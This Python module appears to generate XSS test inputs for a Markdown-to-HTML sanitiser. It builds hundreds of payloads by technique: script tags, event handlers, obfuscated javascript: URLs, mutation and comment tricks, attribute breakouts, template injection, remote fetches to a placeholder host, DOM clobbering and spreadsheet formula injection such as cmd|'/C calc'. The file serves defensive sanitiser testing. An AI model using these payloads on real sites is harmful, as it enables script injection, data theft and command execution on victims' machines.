"""Texts that want to run a script on whoever reads them, by technique: composed here, by hand and by combination.

What they run is CODE, which opens a dialog; what they fetch is at HOST, which no page may ask.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from functools import cache
from itertools import product
from typing import TypeVar

Thing = TypeVar("Thing")

CODE = "alert(1)"
HOST = "https://ngoai.example"

# A tag, what makes it act by itself where that is possible, and a handler of its own.
_ACTING = {
    "img src=khong.png": ("onerror", "onload", "onpointerenter"),
    "img srcset=khong.png": ("onerror",),
    "svg": ("onload", "onclick"),
    "svg><g": ("onload", "onfocusin"),
    "svg><animate attributeName=x dur=1s": ("onbegin", "onend"),
    "svg><set attributeName=x": ("onbegin",),
    "body": ("onload", "onpageshow", "onhashchange", "onresize"),
    "html": ("onload", "onmousemove"),
    "details open": ("ontoggle", "onclick"),
    "dialog open": ("onclose", "onbeforetoggle"),
    "video src=khong.mp4": ("onerror", "onloadstart"),
    "video><source": ("onerror",),
    "audio src=khong.mp3": ("onerror", "oncanplay"),
    "input autofocus": ("onfocus", "onblur", "oninput"),
    "input type=image src=khong.png": ("onerror", "onload"),
    "select autofocus": ("onfocus", "onchange"),
    "textarea autofocus": ("onfocus", "onselect"),
    "button autofocus": ("onfocus", "onclick"),
    "iframe": ("onload",),
    "iframe src=khong.html": ("onload", "onerror"),
    "object data=khong.svg": ("onload", "onerror"),
    "embed src=khong.svg": ("onload",),
    "link rel=stylesheet href=khong.css": ("onload", "onerror"),
    "style": ("onload", "onerror"),
    "script src=khong.js": ("onload", "onerror"),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "form": ("onsubmit", "onreset", "onformdata"),
    "a href=#x tabindex=1 autofocus": ("onfocus", "onclick", "onauxclick"),
    "p tabindex=0 autofocus": ("onfocus", "onkeydown"),
    "div contenteditable": ("onfocus", "onpaste", "onbeforeinput"),
    "b": ("onmouseover", "onpointerdown", "ontouchstart"),
    "table": ("onmouseover", "onwheel"),
    "td": ("onclick", "ondrop"),
    "ul": ("onscroll", "oncontextmenu"),
    "h1": ("onmouseenter", "onanimationstart"),
    "blockquote": ("oncopy", "ontransitionend"),
    "span style=animation:x": ("onanimationend", "onanimationiteration"),
    "math": ("onclick", "onmouseover"),
    "x": ("onclick", "onfocus"),
    "meter": ("onmouseover",),
    "frameset": ("onload", "onpageshow"),
    "isindex": ("onfocus",),
    "keygen autofocus": ("onfocus",),
    "image src=khong.png": ("onerror",),
    "bgsound src=khong.wav": ("onload",),
    "portal src=khong.html": ("onload",),
}
# How an attribute may be written so that a browser still sees one.
_WRITTEN = (
    "<{tag} {on}={code}>",
    '<{tag} {on}="{code}">',
    "<{tag}\n{on} = '{code}'\n>",
    "<{tag}\t{ON}={entities}>",
    "<{tag}/{on}={code}//",
)

_SCRIPTS = (
    "<script>{code}</script>",
    "<SCRIPT>{code}</SCRIPT>",
    "<ScRiPt >{code}</sCrIpT >",
    "<script\n>{code}</script\n>",
    "<script/x>{code}</script>",
    "<script x='>'>{code}</script>",
    "<script>{code}",
    "<script>{code}</script x='1'>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<<script>{code}//<</script>",
    "<script type=module>{code}</script>",
    "<script type=text/javascript>{code}</script>",
    "<script language=javascript>{code}</script>",
    "<script async>{code}</script>",
    "<script nomodule>{code}</script>",
    "<script src={host}/a.js></script>",
    "<script src=//ngoai.example/a.js></script>",
    "<script src=data:text/javascript,{code}></script>",
    "<script src={host}/a.js",
    "<script><!--\n{code}\n--></script>",
    "<script>//<![CDATA[\n{code}\n//]]></script>",
    "<svg><script>{code}</script></svg>",
    "<svg><script>{entities}</script></svg>",
    "<svg><script href=data:text/javascript,{code} /></svg>",
    "<svg><script xlink:href=data:text/javascript,{code} /></svg>",
    "<math><script>{code}</script></math>",
    "<template><script>{code}</script></template>",
    "<noscript><script>{code}</script></noscript>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{code}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{code}</script>'></object>",
    "<embed src='data:text/html,<script>{code}</script>'>",
    "<p><script>{code}</script></p>",
    "<table><script>{code}</script></table>",
    "<select><script>{code}</script></select>",
    "<xml><script>{code}</script></xml>",
    "<style><script>{code}</script></style>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "＜script＞{code}＜/script＞",
    "\\<script\\>{code}\\</script\\>",
    "<\\script>{code}</\\script>",
    "< script>{code}</ script>",
    "<script\u00a0>{code}</script>",
    "<script\u200b>{code}</script>",
)

# Ways to write a scheme so that a browser still runs it, or nearly.
_ADDRESSES = (
    "javascript:{code}",
    "JAVASCRIPT:{code}",
    "JaVaScRiPt:{code}",
    " javascript:{code}",
    "&#1;javascript:{code}",
    "&#x1f;javascript:{code}",
    "java&#9;script:{code}",
    "java&#10;script:{code}",
    "java&#13;script:{code}",
    "java&Tab;script:{code}",
    "java&NewLine;script:{code}",
    "javascript&colon;{code}",
    "javascript&#58;{code}",
    "javascript&#x3a;{code}",
    "javascript&#0000058{code}",
    "&#106;avascript:{code}",
    "&#x6A;&#x61;vascript:{code}",
    "%6aavascript:{code}",
    "javascript%3a{code}",
    "javascript://ngoai.example/%0a{code}",
    "javascript:/*--></title></style>*/{code}",
    "javascript:void({code})",
    "jav\u200bascript:{code}",
    "ｊavascript:{code}",
    "vbscript:{code}",
    "livescript:{code}",
    "mocha:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{code}</script>",
    "blob:{host}/1",
    "view-source:{host}/",
    "filesystem:{host}/x",
    "file:///etc/passwd",
    "x-khong-co:{code}",
    "feed:javascript:{code}",
    "jar:javascript:{code}!/",
)
_LEADING = (
    '<a href="{address}">x</a>',
    "<a href='{address}' target=_blank>x</a>",
    '<a xlink:href="{address}">x</a>',
    '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
    '<math href="{address}">x</math>',
    '<map><area href="{address}"></map>',
    '<img src="{address}" alt=x>',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button>x</button></form>',
    '<button formaction="{address}">x</button>',
    '<object data="{address}"></object>',
    '<base href="{address}">',
    '<meta http-equiv=refresh content="0;url={address}">',
    "[x]({address})",
    "[x](<{address}>)",
    "[x][r]\n\n[r]: <{address}>",
    "![x](<{address}>)",
    "<{address}>",
)

_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={code}&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror={code}>",
    '<svg></p><style><a id="</style><img src=1 onerror={code}>">',
    '<svg><style><img title="</style><img src onerror={code}>">',
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    '<textarea><p title="</textarea><img src=x onerror={code}>">',
    '<title><p title="</title><img src=x onerror={code}>">',
    '<xmp><p title="</xmp><img src=x onerror={code}>">',
    '<noembed><p title="</noembed><img src=x onerror={code}>">',
    '<noframes><p title="</noframes><img src=x onerror={code}>">',
    '<iframe><p title="</iframe><img src=x onerror={code}>">',
    '<template><p title="</template><img src=x onerror={code}>"></template>',
    "<listing>&lt;img src=x onerror={code}&gt;</listing>",
    "<plaintext><img src=x onerror={code}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<table><td><form><svg><style><img src=x onerror={code}></style>",
    "<select><option><style></option></select><img src=x onerror={code}></style>",
    '<svg><desc><noscript><p title="</noscript><img src onerror={code}>"></desc></svg>',
    "<svg><foreignObject><p><style><!--</style><img src onerror={code}>--></style>",
    '<math><annotation-xml encoding="text/html"><style><img src onerror={code}></style></annotation-xml></math>',
    "<a><table><a onclick={code}></table></a>",
    "<p><svg><p><img src=x onerror={code}>",
    '<b title="`"><b title="` onmouseover={code} `">',
    '<p id="&quot; onmouseover={code} &quot;">',
    '<p title="&lt;img src=x onerror={code}&gt;">',
    "<p class=`onclick={code}`>",
    '<div title="x&#10;onclick={code}">',
    '<div title="&#34;&#62;&#60;script&#62;{code}&#60;/script&#62;">',
    "<!--><img src=x onerror={code}>-->",
    "<!---><img src=x onerror={code}>-->",
    "<!-- --!><img src=x onerror={code}>-->",
    "<!-- --- ><img src=x onerror={code}>-->",
    "<!--<img src='--><img src=x onerror={code}>'>-->",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "<![CDATA[]]><img src=x onerror={code}>",
    "<svg><![CDATA[</svg><img src=x onerror={code}>]]>",
    "<?xml version='1.0'?><img src=x onerror={code}>",
    "<?php '?><img src=x onerror={code}>",
    "<!DOCTYPE x [<!ENTITY y '{code}'>]><p onclick=&y;>",
    "<!x y='><img src=x onerror={code}>'>",
    "</ x><img src=x onerror={code}>",
    "</br onclick={code}>",
    "</p onclick={code}>",
    "<img src=x onerror={code}",
    '<img """><script>{code}</script>">',
    '<img src="x` `<script>{code}</script>"` `>',
    '<img alt="x" src="khong.png"onerror="{code}">',
    "<img src=x:x onerror={code}>",
    "<a href=#><b onclick={code}>x</b></a>",
    "<b/onclick={code}/>x</b>",
    "<b\x0bonclick={code}>x</b>",
)

_ENDS = tuple(
    ends + what
    for ends, what in product(
        ('">', "'>", "`>", "</title>", "</h1>", "</a>", "</script>", "</style>", "</textarea>", "-->", "]]>", "/>"),
        ("<script>{code}</script>", "<img src=x onerror={code}>"),
    )
)
_BREAKOUTS = (
    *_ENDS,
    '" onmouseover={code} x="',
    "' onmouseover={code} x='",
    "` onmouseover={code} x=`",
    '" autofocus onfocus={code} x="',
    "x onmouseover={code}",
    '"onclick="{code}',
    "'-{code}-'",
    '"-{code}-"',
    "\\'-{code}//",
    '\\";{code}//',
    "${{{code}}}",
    "`${{{code}}}`",
    "</script><!--<script>",
    "<!--<script>{code}</script>",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{code}\\x3c/script\\x3e",
    "&quot;&gt;&lt;script&gt;{code}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{code}",
    "%3Cscript%3E{code}%3C/script%3E",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "__proto__",
    "constructor",
    "{{{{ 7 * 7 }}}}",
    "{{{{ constructor.constructor('{code}')() }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{# x #}}",
    "#{{7*7}}",
    "<%= 7 * 7 %>",
    "[[${{7*7}}]]",
)

_STYLES = (
    "<p style=background:url({host}/a.png)>x</p>",
    "<p style=\"background-image:url('javascript:{code}')\">x</p>",
    "<p style=width:expression({code})>x</p>",
    "<p style=-moz-binding:url({host}/a.xml#x)>x</p>",
    "<p style=behavior:url({host}/a.htc)>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<style>@import url({host}/a.css);</style>",
    "<style>*{{background:url({host}/a.png)}}</style>",
    "<style>a[href^='x']{{background:url({host}/a.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({host}/a.woff)}}p{{font-family:x}}</style>",
    "<link rel=stylesheet href={host}/a.css>",
    "<link rel=stylesheet href='data:text/css,*{{background:url({host}/a.png)}}'>",
    "<svg><style>@import '{host}/a.css'</style></svg>",
    "<font face=x color=red size=7 onclick={code}>x</font>",
    "<p class=hidden hidden>x</p>",
)

_FETCHES = (
    "<img src={host}/a.png alt=x>",
    "<img src=//ngoai.example/a.png alt=x>",
    "<img src=/\\ngoai.example/a.png alt=x>",
    "<img src='{host}/?",
    "<img srcset='{host}/a.png 1x' src=khong.png alt=x>",
    "<img lowsrc={host}/a.png alt=x>",
    "<img dynsrc={host}/a.png alt=x>",
    "<picture><source srcset={host}/a.png><img src=khong.png alt=x></picture>",
    "<video poster={host}/a.png></video>",
    "<video src={host}/a.mp4 autoplay></video>",
    "<audio src={host}/a.mp3 autoplay></audio>",
    "<video><track src={host}/a.vtt default></video>",
    "<table background={host}/a.png><tr><td>x</table>",
    "<body background={host}/a.png>",
    "<input type=image src={host}/a.png>",
    "<object data={host}/a.svg></object>",
    "<embed src={host}/a.svg>",
    "<applet code=a.class archive={host}/a.jar></applet>",
    "<iframe src={host}/></iframe>",
    "<frameset><frame src={host}/></frameset>",
    "<link rel=prefetch href={host}/>",
    "<link rel=preconnect href={host}/>",
    "<link rel=dns-prefetch href=//ngoai.example>",
    "<link rel=manifest href={host}/a.json>",
    "<link rel=icon href={host}/a.png>",
    "<meta http-equiv=refresh content='0;url={host}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href={host}/>",
    "<a href=khong.html ping={host}/>x</a>",
    "<form action={host}/><input name=q autofocus><button>x</button></form>",
    "<isindex action={host}/>",
    "<svg><image href={host}/a.png></svg>",
    "<svg><image xlink:href={host}/a.png></svg>",
    "<svg><use href={host}/a.svg#x></svg>",
    "<svg><feImage href={host}/a.png></svg>",
    "<math><mi href={host}/>x</mi></math>",
    "<menu><menuitem icon={host}/a.png></menu>",
    "<bgsound src={host}/a.wav>",
    "<html manifest={host}/a.appcache>",
    "<portal src={host}/></portal>",
    "<q cite={host}/>x</q>",
    "<del cite={host}/>x</del>",
    "![x]({host}/a.png)",
    "![x](//ngoai.example/a.png)",
)

_LISTS = (
    "x {{: onclick={code} }}",
    'x {{: onclick="{code}" }}',
    "x {{: onclick='{code}' .a #b }}",
    "x {{: style=background:url({host}/a.png) }}",
    "x {{: tabindex=1 autofocus onfocus={code} }}",
    "x {{: contenteditable oninput={code} }}",
    "x {{: title='\"><script>{code}</script>' }}",
    "x {{: class='\" onclick={code} x=\"' }}",
    "x {{: lang='\"><img src=x onerror={code}>' }}",
    "x {{: a=b'onclick={code} }}",
    "x {{: ONCLICK={code} }}",
    "x {{: xmlns:on=x on:click={code} }}",
    "x\n{{: onclick={code} }}",
    "# x {{: onclick={code} }}",
    "# x {{: data-toc-label='<img src=x onerror={code}>' }}\n\n[TOC]",
    '# x {{#"onclick={code}}}',
    "# <img src=x onerror={code}> {{#a}}\n\n[TOC]",
    "*x*{{: onclick={code} }}",
    "**x**{{: style='x' onmouseover={code} }}",
    "`x`{{: onclick={code} }}",
    "[x](/){{: onclick={code} }}",
    "[x](/){{: href=javascript:{code} }}",
    "[x](/){{: target=_blank rel=opener ping={host}/ }}",
    "[x](/){{: xlink:href=javascript:{code} }}",
    "![x](khong.png){{: onerror={code} }}",
    "![x](khong.png){{: src={host}/a.png }}",
    "![x](khong.png){{: srcset={host}/a.png }}",
    "- x {{: onclick={code} }}",
    "> x\n{{: onclick={code} }}",
    "| x |\n|---|\n| x {{: onclick={code} }} |",
    "x\n:   x {{: onclick={code} }}",
    "``` {{ .x onclick={code} }}\nx\n```",
    '```html" onclick="{code}\nx\n```',
    '``` {{ .x title="<script>{code}</script>" }}\nx\n```',
)

_MARKDOWN = (
    '[x](/ "<script>{code}</script>")',
    "[x](/ '\" onclick={code} x=\"')",
    '[x](/ "a" onclick={code})',
    "[<img src=x onerror={code}>](/)",
    '[x](/"onclick={code})',
    '[x](</" onclick="{code}>)',
    "[x](/'onclick={code}')",
    '![" onerror={code} x="](khong.png)',
    "![<script>{code}</script>](khong.png)",
    '![x](khong.png "\' onerror={code}")',
    '![x](khong.png"onerror="{code})',
    "![![x](khong.png)](javascript:{code})",
    '[![x](khong.png "a")](javascript:{code})',
    '[x]: / "<script>{code}</script>"\n\n[x]',
    '[" onclick={code}]: /\n\n[" onclick={code}]',
    '*[VNPT]: " onmouseover={code} x="\n\nVNPT',
    "*[VNPT]: <script>{code}</script>\n\nVNPT",
    "*[<b>]: x\n\n<b>",
    "x[^<script>{code}</script>]\n\n[^<script>{code}</script>]: x",
    'x[^" onclick={code}]\n\n[^" onclick={code}]: x',
    "x[^1]\n\n[^1]: <img src=x onerror={code}>",
    '<http://a.vn/"onclick={code}>',
    '<a@b.vn"onclick={code}>',
    "`<script>{code}</script>`",
    "``` \n<script>{code}</script>\n```",
    "~~~html\n<img src=x onerror={code}>\n~~~",
    "    <script>{code}</script>",
    "| <script>{code}</script> |\n|---|\n| <img src=x onerror={code}> |",
    "<script>{code}</script>\n:   <img src=x onerror={code}>",
    "# <script>{code}</script>",
    "<div markdown=1>\n<script>{code}</script>\n</div>",
    "<div\n\nonclick={code}>x</div>",
    "<di*v*>x<scr_ip_t>{code}",
    "<b>**<script>**{code}</script></b>",
    "[a](/)<scr[b](/)ipt>{code}</script>",
    "\x02" + "wzxhzdk:0\x03",
    "klzzwxh:0000",
    "&#x1a;0&#x1a;",
    "<img &#x1a;0&#x1a; onerror={code}>",
    "STXwzxhzdk:0ETX",
)

_CLOBBERS = tuple(
    f"<{tag} {attribute}={name}>x</{tag}>"
    for tag, attribute, name in product(
        ("a", "form", "input", "img"),
        ("id", "name"),
        ("_search", "ket-qua", "_table", "cookie", "body", "getElementById"),
    )
)

# What follows would be an attribute for whoever takes the words of the title for one.
_WORDS = tuple(
    f'<{tag} title="x {attribute}=">{what}" " onmouseover={CODE} x="</{tag}>'
    for tag, attribute, what in product(
        ("b", "a", "p", "h2"), ("id", "href", "src", "srcset", "alt", "class", "title"), ("A B", "https://a.vn/")
    )
) + tuple(
    f'<img src=khong.png alt="x {attribute}=" title="{end}" class="onerror={CODE}" lang="{end}">'
    for attribute, end in product(("id", "href", "src", "srcset", "alt", "title"), ("", "/", "x"))
)

FORMULAS = tuple(
    start + rest
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", " =", "'=", '"=', ";=", ",=", "＝", "＋", "－", "＠", "%0A=", "\u200b="),
        ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("https://ngoai.example","x")'),
    )
)


def _filled(template: str) -> str:
    entities = "".join(f"&#{ord(letter)};" for letter in CODE)
    return template.format(code=CODE, host=HOST, entities=entities)


def _handlers() -> Iterator[str]:
    for number, (tag, handlers) in enumerate(_ACTING.items()):
        for at, handler in enumerate(handlers):
            # Every tag with every handler of its own, in two of the ways of writing, so that each way meets many tags.
            for way in (number + at, number + at + 2):
                written = _WRITTEN[way % len(_WRITTEN)]
                entities = "".join(f"&#x{ord(letter):x};" for letter in CODE)
                yield written.format(tag=tag, on=handler, ON=handler.upper(), code=CODE, entities=entities)


def _addresses() -> Iterator[str]:
    for number, address in enumerate(_ADDRESSES):
        filled = _filled(address)
        # The first way of every kind, and two more in turn: each leads everywhere after a few addresses.
        for way in dict.fromkeys((0, 13, 1 + number * 2 % 17, 2 + number * 2 % 16)):
            yield _LEADING[way].format(address=filled if way >= 13 else filled.replace('"', "&quot;"))
    for template in _LEADING:
        yield template.format(address=f"javascript:{CODE}")


@cache
def payloads() -> Mapping[str, tuple[str, ...]]:
    """Return every payload by its technique."""
    return {
        "script elements": tuple(map(_filled, _SCRIPTS)),
        "handlers": tuple(dict.fromkeys(_handlers())),
        "addresses": tuple(dict.fromkeys(_addresses())),
        "mutations, comments, broken tags": tuple(map(_filled, _MUTATIONS)),
        "breaking out of a place": tuple(map(_filled, _BREAKOUTS)),
        "styles": tuple(map(_filled, _STYLES)),
        "fetching": tuple(map(_filled, _FETCHES)),
        "attribute lists": tuple(map(_filled, _LISTS)),
        "Markdown": tuple(map(_filled, _MARKDOWN)),
        "names that scripts look for": _CLOBBERS,
        "words that read like attributes": _WORDS,
        "formulas": FORMULAS,
    }


def everything() -> tuple[str, ...]:
    return tuple(dict.fromkeys(payload for group in payloads().values() for payload in group))


PLACES: Mapping[str, str] = {
    "a block": "{payload}",
    "a paragraph": "Trước {payload} sau.",
    "a heading": "## Trước {line}",
    "a list": "- {line}",
    "a quotation": "> {line}",
    "a table": "| Trước | {cell} |\n|---|---|\n| {cell} | sau |",
    "a link's words": "[{line}](/)",
    "a link's title": "[x](/ '{line}')",
    "an alternative text": "![{line}](khong.png)",
    "an attribute": '<span title="{line}">x</span>',
    "an attribute list": "Đoạn. {{: title='{line}' }}",
    "a note": "x[^{number}]\n\n[^{number}]: {line}",
    "an abbreviation": "*[VT{number}]: {line}\n\nVT{number}",
    "a definition": "{line}\n:   {line}",
    "code": "`{line}`",
    "a block of HTML": "<div>{payload}</div>",
}
"""Where in an item's text a payload may stand; `line` is the payload on one line, `cell` without `|`."""


def placed(payload: str, place: str, number: int = 0) -> str:
    """Return Markdown with a payload in one of the PLACES."""
    line = " ".join(payload.split())
    return PLACES[place].format(payload=payload, line=line, cell=line.replace("|", "&#124;"), number=number)


def batched(things: Sequence[Thing], size: int) -> list[Sequence[Thing]]:
    """Return the things in their order, so many at a time."""
    return [things[start : start + size] for start in range(0, len(things), size)]
